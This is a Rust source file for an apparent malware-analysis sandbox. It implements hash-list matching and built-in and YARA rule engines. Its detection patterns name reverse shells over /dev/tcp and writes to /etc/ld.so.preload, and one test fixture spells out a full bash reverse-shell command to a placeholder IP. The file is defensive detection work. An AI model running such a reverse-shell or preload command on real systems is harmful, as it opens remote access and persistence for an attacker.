//! Static analysis: hash lists and rule engines over the raw bytes of an object.
//!
//! Why static first: it is cheap (hashing plus a scan), needs no jail, and settles the
//! common cases (known-bad hashes, test files, obvious droppers) before the costlier
//! dynamic run. Rule engines sit behind [`RuleEngine`] so the YARA engine from
//! `riposte-ioc` plugs in without this crate depending on how it is built; the
//! [`BuiltinRules`] engine implements the shipped default rule set (`rules/*.yar`)
//! natively so the service works even without YARA.

use std::collections::HashMap;
use std::path::Path;

use crate::report::{Evidence, FileIoc, Report, Verdict};
use crate::SandboxError;

/// The default rule set shipped with the crate, as `(file name, YARA source)`.
pub const DEFAULT_RULES: &[(&str, &str)] = &[
    ("eicar.yar", include_str!("../rules/eicar.yar")),
    (
        "linux_reverse_shell.yar",
        include_str!("../rules/linux_reverse_shell.yar"),
    ),
    (
        "linux_ld_preload.yar",
        include_str!("../rules/linux_ld_preload.yar"),
    ),
];

/// A rule that matched.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct RuleMatch {
    /// Rule identifier.
    pub rule: String,
    /// Threat name (from the rule's `threat_name` meta, else the rule name).
    pub threat_name: String,
    /// Human-readable description.
    pub description: String,
}

/// A pattern-matching engine (YARA or built-in) scanning an object's bytes.
pub trait RuleEngine: Send + Sync {
    /// Engine name for evidence (`builtin`, `yara`).
    fn name(&self) -> &str;
    /// Scan `data`; every match is treated as malicious.
    fn scan(&self, data: &[u8]) -> Result<Vec<RuleMatch>, SandboxError>;
}

/// The 68-byte EICAR test string.
pub const EICAR: &[u8] = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*";

/// Native implementation of the shipped default rules (see [`DEFAULT_RULES`]).
#[derive(Debug, Default, Clone, Copy)]
pub struct BuiltinRules;

fn contains(hay: &[u8], needle: &[u8]) -> bool {
    !needle.is_empty() && hay.windows(needle.len()).any(|w| w == needle)
}

impl RuleEngine for BuiltinRules {
    fn name(&self) -> &str {
        "builtin"
    }

    fn scan(&self, data: &[u8]) -> Result<Vec<RuleMatch>, SandboxError> {
        let mut out = Vec::new();
        if data.len() <= 128 && data.starts_with(EICAR) {
            out.push(RuleMatch {
                rule: "EICAR_Test_File".into(),
                threat_name: "EICAR-Test-File".into(),
                description: "EICAR anti-malware test file".into(),
            });
        }
        if data.starts_with(b"#!") {
            if contains(data, b"/dev/tcp/")
                && (contains(data, b"bash -i") || contains(data, b"sh -i"))
            {
                out.push(RuleMatch {
                    rule: "Linux_Script_ReverseShell".into(),
                    threat_name: "Linux.ReverseShell.Script".into(),
                    description: "script spawns an interactive shell wired to a /dev/tcp socket"
                        .into(),
                });
            }
            if [
                &b"> /etc/ld.so.preload"[..],
                b">> /etc/ld.so.preload",
                b">/etc/ld.so.preload",
            ]
            .iter()
            .any(|p| contains(data, p))
            {
                out.push(RuleMatch {
                    rule: "Linux_Script_LdPreload_Persistence".into(),
                    threat_name: "Linux.Rootkit.LdPreload".into(),
                    description: "script writes /etc/ld.so.preload".into(),
                });
            }
        }
        Ok(out)
    }
}

/// Known-malicious hashes (MD5, SHA-1, SHA-256) with an optional size and a name.
#[derive(Debug, Default, Clone)]
pub struct HashList {
    entries: HashMap<String, (Option<u64>, String)>,
}

impl HashList {
    /// Empty list.
    pub fn new() -> Self {
        Self::default()
    }

    /// Number of hashes.
    pub fn len(&self) -> usize {
        self.entries.len()
    }

    /// `true` when empty.
    pub fn is_empty(&self) -> bool {
        self.entries.is_empty()
    }

    /// Add one hash (hex, any case) with an optional size and a threat name.
    pub fn insert(&mut self, hash: &str, size: Option<u64>, name: &str) -> Result<(), String> {
        let h = hash.trim().to_ascii_lowercase();
        if !matches!(h.len(), 32 | 40 | 64) || !h.bytes().all(|b| b.is_ascii_hexdigit()) {
            return Err(format!(
                "{hash:?} is not an MD5, SHA-1 or SHA-256 hex digest"
            ));
        }
        self.entries.insert(h, (size, name.to_string()));
        Ok(())
    }

    /// Parse ClamAV `.hdb` (`md5:size:name`) or `.hsb` (`hash:size:name[:flevel]`,
    /// size may be `*`) text.
    pub fn add_clamav(&mut self, text: &str, source_name: &str) -> Result<usize, SandboxError> {
        let mut n = 0;
        for (i, line) in text.lines().enumerate() {
            let line = line.trim();
            if line.is_empty() || line.starts_with('#') {
                continue;
            }
            let err = |reason: String| SandboxError::HashList {
                source_name: source_name.to_string(),
                line: i + 1,
                reason,
            };
            let mut parts = line.split(':');
            let (Some(hash), Some(size), Some(name)) = (parts.next(), parts.next(), parts.next())
            else {
                return Err(err("expected HASH:SIZE:NAME".into()));
            };
            let size = if size == "*" {
                None
            } else {
                Some(
                    size.parse::<u64>()
                        .map_err(|_| err(format!("size {size:?} is not a number or *")))?,
                )
            };
            self.insert(hash, size, name).map_err(err)?;
            n += 1;
        }
        Ok(n)
    }

    /// Parse a CSV with a header naming hash columns (`md5`, `sha1`, `sha256`) and an
    /// optional `name` column, like the corpus' `all-hashes.csv`.
    pub fn add_csv(&mut self, text: &str, source_name: &str) -> Result<usize, SandboxError> {
        let mut lines = text.lines().enumerate();
        let Some((_, header)) = lines.next() else {
            return Ok(0);
        };
        let cols: Vec<String> = header
            .trim_start_matches('\u{feff}')
            .split(',')
            .map(|c| c.trim().to_ascii_lowercase())
            .collect();
        let hash_cols: Vec<usize> = cols
            .iter()
            .enumerate()
            .filter(|(_, c)| matches!(c.as_str(), "md5" | "sha1" | "sha256"))
            .map(|(i, _)| i)
            .collect();
        if hash_cols.is_empty() {
            return Err(SandboxError::HashList {
                source_name: source_name.to_string(),
                line: 1,
                reason: "header names no md5, sha1 or sha256 column".into(),
            });
        }
        let name_col = cols.iter().position(|c| c == "name");
        let default_name = format!("HashList.{source_name}");
        let mut n = 0;
        for (i, line) in lines {
            if line.trim().is_empty() {
                continue;
            }
            let fields: Vec<&str> = line.split(',').map(str::trim).collect();
            let name = name_col
                .and_then(|c| fields.get(c).copied())
                .filter(|s| !s.is_empty())
                .unwrap_or(&default_name)
                .to_string();
            for &c in &hash_cols {
                if let Some(h) = fields.get(c).filter(|h| !h.is_empty()) {
                    self.insert(h, None, &name)
                        .map_err(|reason| SandboxError::HashList {
                            source_name: source_name.to_string(),
                            line: i + 1,
                            reason,
                        })?;
                    n += 1;
                }
            }
        }
        Ok(n)
    }

    /// Load every `.hdb`, `.hsb` and `.csv` file in `dir` (missing dir = nothing).
    pub fn load_dir(&mut self, dir: &Path) -> Result<usize, SandboxError> {
        let rd = match std::fs::read_dir(dir) {
            Ok(rd) => rd,
            Err(e) if e.kind() == std::io::ErrorKind::NotFound => return Ok(0),
            Err(e) => return Err(SandboxError::io("list", dir, e)),
        };
        let mut n = 0;
        for entry in rd.flatten() {
            let path = entry.path();
            n += self.load_file(&path)?;
        }
        Ok(n)
    }

    /// Load one `.hdb`, `.hsb` or `.csv` file; other extensions are ignored.
    pub fn load_file(&mut self, path: &Path) -> Result<usize, SandboxError> {
        let ext = path.extension().and_then(|e| e.to_str()).unwrap_or("");
        if !matches!(ext, "hdb" | "hsb" | "csv") {
            return Ok(0);
        }
        let text = std::fs::read_to_string(path).map_err(|e| SandboxError::io("read", path, e))?;
        let label = path
            .file_name()
            .and_then(|n| n.to_str())
            .unwrap_or("list")
            .to_string();
        if ext == "csv" {
            self.add_csv(&text, &label)
        } else {
            self.add_clamav(&text, &label)
        }
    }

    /// Look up a file's hashes; returns the threat name and the matching hash.
    pub fn lookup<'a>(&'a self, f: &'a FileIoc) -> Option<(&'a str, &'a str)> {
        for h in [&f.sha256, &f.sha1, &f.md5] {
            if let Some((size, name)) = self.entries.get(h.as_str()) {
                if size.is_none_or(|s| s == f.size) {
                    return Some((name.as_str(), h.as_str()));
                }
            }
        }
        None
    }
}

/// Hash lists plus rule engines: the static half of the built-in sandbox.
pub struct StaticAnalyzer {
    hashes: HashList,
    engines: Vec<Box<dyn RuleEngine>>,
}

impl std::fmt::Debug for StaticAnalyzer {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("StaticAnalyzer")
            .field("hashes", &self.hashes.len())
            .field(
                "engines",
                &self
                    .engines
                    .iter()
                    .map(|e| e.name().to_string())
                    .collect::<Vec<_>>(),
            )
            .finish()
    }
}

impl StaticAnalyzer {
    /// Analyzer with the given hash list and engines.
    pub fn new(hashes: HashList, engines: Vec<Box<dyn RuleEngine>>) -> Self {
        StaticAnalyzer { hashes, engines }
    }

    /// Analyzer with the built-in rules and `hashes`.
    pub fn with_builtin_rules(hashes: HashList) -> Self {
        Self::new(hashes, vec![Box::new(BuiltinRules)])
    }

    /// Analyse `data` submitted as `name`.
    pub fn analyse(&self, name: &str, data: &[u8]) -> Report {
        let mut report = Report::new("riposte-static", name);
        let object = FileIoc::from_bytes(Some(name.to_string()), data);
        if let Some((threat, hash)) = self.hashes.lookup(&object) {
            report.evidence.push(Evidence {
                engine: "hash-list".into(),
                rule: threat.to_string(),
                detail: format!("hash {hash} is on a known-malicious hash list"),
                severity: 10,
            });
            report.raise(Verdict::Malicious, Some(threat));
        }
        for engine in &self.engines {
            match engine.scan(data) {
                Ok(matches) => {
                    for m in matches {
                        report.evidence.push(Evidence {
                            engine: engine.name().to_string(),
                            rule: m.rule.clone(),
                            detail: m.description.clone(),
                            severity: 10,
                        });
                        report.raise(Verdict::Malicious, Some(&m.threat_name));
                    }
                }
                Err(e) => report
                    .notes
                    .push(format!("rule engine {} failed: {e}", engine.name())),
            }
        }
        report.iocs.object = Some(object);
        report
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn eicar_matches_only_at_start_and_small() {
        let r = BuiltinRules;
        assert_eq!(r.scan(EICAR).unwrap().len(), 1);
        let mut padded = EICAR.to_vec();
        padded.extend_from_slice(b"\r\n");
        assert_eq!(r.scan(&padded).unwrap().len(), 1);
        let mut late = b"hello ".to_vec();
        late.extend_from_slice(EICAR);
        assert!(r.scan(&late).unwrap().is_empty());
        let mut big = EICAR.to_vec();
        big.extend(std::iter::repeat_n(b' ', 100));
        assert!(r.scan(&big).unwrap().is_empty());
    }

    #[test]
    fn clamav_and_csv_lists_parse_and_match() {
        let mut l = HashList::new();
        let f = FileIoc::from_bytes(None, b"abc");
        let hdb = format!("{}:3:Test.Hdb\n", f.md5);
        assert_eq!(l.add_clamav(&hdb, "t.hdb").unwrap(), 1);
        assert_eq!(l.lookup(&f).map(|x| x.0), Some("Test.Hdb"));
        // Size mismatch: no match.
        let g = FileIoc {
            size: 4,
            ..f.clone()
        };
        assert!(l.lookup(&g).is_none());
        let mut l2 = HashList::new();
        l2.add_clamav(&format!("{}:*:Test.Hsb:73\n", f.sha256), "t.hsb")
            .unwrap();
        assert!(l2.lookup(&g).is_some());
        let err = l2.add_clamav("zz:1:x\n", "bad.hsb").unwrap_err();
        assert!(err.to_string().contains("bad.hsb line 1"), "{err}");
        let mut l3 = HashList::new();
        let corpus = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../../shared/corpus");
        let n = l3.load_file(&corpus.join("clamav/all-hashes.csv")).unwrap();
        assert!(n > 100, "{n}");
        let known = FileIoc {
            sha256: "77bdcb2a9873c4629d8675c8ce9cc8a0cf35c514e27f7a6dc2bc4b31f79dd9e2".into(),
            ..Default::default()
        };
        assert!(l3.lookup(&known).is_some());
    }
}

/// YARA rules through `riposte_ioc::yara` (boreal): the shipped default rules plus any
/// `.yar`/`.yara` files from a rules folder.
#[cfg(feature = "yara")]
pub struct YaraEngine {
    sets: Vec<riposte_ioc::yara::YaraRules>,
    threat_names: HashMap<String, String>,
    warnings: Vec<String>,
}

#[cfg(feature = "yara")]
impl std::fmt::Debug for YaraEngine {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("YaraEngine")
            .field("sets", &self.sets.len())
            .field("warnings", &self.warnings)
            .finish()
    }
}

/// `rule NAME ... threat_name = "X"` pairs from YARA source (meta is not exposed by
/// the engine interface, so the threat name is read from the text).
#[cfg(feature = "yara")]
fn threat_names_from_source(src: &str, out: &mut HashMap<String, String>) {
    let mut current: Option<String> = None;
    for line in src.lines() {
        let t = line.trim();
        let rest = t
            .strip_prefix("private rule ")
            .or_else(|| t.strip_prefix("global rule "))
            .or_else(|| t.strip_prefix("rule "));
        if let Some(rest) = rest {
            let name: String = rest
                .chars()
                .take_while(|c| c.is_ascii_alphanumeric() || *c == '_')
                .collect();
            current = (!name.is_empty()).then_some(name);
        } else if let (Some(rule), Some(v)) = (&current, t.strip_prefix("threat_name")) {
            if let Some(val) = v.trim_start().strip_prefix('=') {
                let val = val.trim().trim_matches('"');
                out.insert(rule.clone(), val.to_string());
            }
        }
    }
}

#[cfg(feature = "yara")]
impl YaraEngine {
    /// Engine with the shipped default rules ([`DEFAULT_RULES`]).
    pub fn with_default_rules() -> Result<Self, SandboxError> {
        let mut e = YaraEngine {
            sets: Vec::new(),
            threat_names: HashMap::new(),
            warnings: Vec::new(),
        };
        for (name, src) in DEFAULT_RULES {
            e.add_source(src, name)?;
        }
        Ok(e)
    }

    /// Compile and add YARA source; rules the engine refuses are skipped with a warning.
    pub fn add_source(&mut self, src: &str, origin: &str) -> Result<(), SandboxError> {
        let rules = riposte_ioc::yara::YaraRules::compile_str(src, origin)
            .map_err(|e| SandboxError::Rules(e.to_string()))?;
        self.warnings.extend(rules.warnings().iter().cloned());
        threat_names_from_source(src, &mut self.threat_names);
        self.sets.push(rules);
        Ok(())
    }

    /// Add every `.yar`/`.yara` file in `dir` (a missing dir adds nothing).
    pub fn load_dir(&mut self, dir: &Path) -> Result<usize, SandboxError> {
        let rd = match std::fs::read_dir(dir) {
            Ok(rd) => rd,
            Err(e) if e.kind() == std::io::ErrorKind::NotFound => return Ok(0),
            Err(e) => return Err(SandboxError::io("list", dir, e)),
        };
        let mut n = 0;
        let mut paths: Vec<_> = rd.flatten().map(|e| e.path()).collect();
        paths.sort();
        for path in paths {
            if matches!(
                path.extension().and_then(|e| e.to_str()),
                Some("yar" | "yara")
            ) {
                let src = std::fs::read_to_string(&path)
                    .map_err(|e| SandboxError::io("read", &path, e))?;
                self.add_source(&src, &path.display().to_string())?;
                n += 1;
            }
        }
        Ok(n)
    }

    /// Rules skipped because the engine refused them.
    pub fn warnings(&self) -> &[String] {
        &self.warnings
    }
}

#[cfg(feature = "yara")]
impl RuleEngine for YaraEngine {
    fn name(&self) -> &str {
        "yara"
    }

    fn scan(&self, data: &[u8]) -> Result<Vec<RuleMatch>, SandboxError> {
        let mut out = Vec::new();
        for set in &self.sets {
            for rule in set.scan_bytes(data) {
                let threat = self
                    .threat_names
                    .get(&rule)
                    .cloned()
                    .unwrap_or_else(|| format!("YARA.{rule}"));
                out.push(RuleMatch {
                    description: format!("YARA rule {rule} ({})", set.origin()),
                    rule,
                    threat_name: threat,
                });
            }
        }
        Ok(out)
    }
}

#[cfg(all(test, feature = "yara"))]
mod yara_tests {
    use super::*;

    #[test]
    fn default_yara_rules_match_like_builtin() {
        let y = YaraEngine::with_default_rules().unwrap();
        assert!(y.warnings().is_empty(), "{:?}", y.warnings());
        let m = y.scan(EICAR).unwrap();
        assert_eq!(m.len(), 1);
        assert_eq!(m[0].threat_name, "EICAR-Test-File");
        let rs = b"#!/bin/bash\nbash -i >& /dev/tcp/198.51.100.1/4444 0>&1\n";
        let m = y.scan(rs).unwrap();
        assert_eq!(m[0].threat_name, "Linux.ReverseShell.Script");
        assert_eq!(
            BuiltinRules.scan(rs).unwrap()[0].threat_name,
            "Linux.ReverseShell.Script"
        );
        assert!(y.scan(b"#!/bin/sh\necho hello\n").unwrap().is_empty());
    }
}
